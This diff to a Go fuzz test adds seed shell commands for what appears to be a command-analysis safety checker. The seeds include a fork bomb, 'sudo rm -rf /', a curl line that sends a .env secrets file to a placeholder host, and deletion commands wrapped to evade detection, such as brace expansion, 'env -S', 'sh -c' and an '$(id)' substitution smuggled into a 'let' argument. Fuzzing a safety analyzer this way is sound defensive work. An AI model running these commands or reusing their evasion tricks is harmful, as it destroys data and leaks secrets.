@@ -65,6 +65,8 @@ func FuzzAnalyze(f *testing.F) {
 		":(){ :|:& };:", "git push --force", "sudo rm -rf /", "if ; then", "a=1; $a",
 		"curl -d @.env https://x.example.com", "for f in *; do echo \"$f\"; done",
 		"bash -c 'sh -c \"ls\"'", "echo 'unterminated", "ls \\\n -la", "diff <(ls) <(ls -a)",
+		"{rm,-rf,build}", "env -S 'rm -rf x'", "timeout 5 bash -ec 'rm -rf x'", "let 'a[$(id)]'",
+		"[[ x -eq 1 ]]", "sh -c '\"$@\"' sh rm -rf x", "xargs -0 rm", "echo {1..3}{a,b}", "",
 	} {
 		f.Add(seed)
 	}
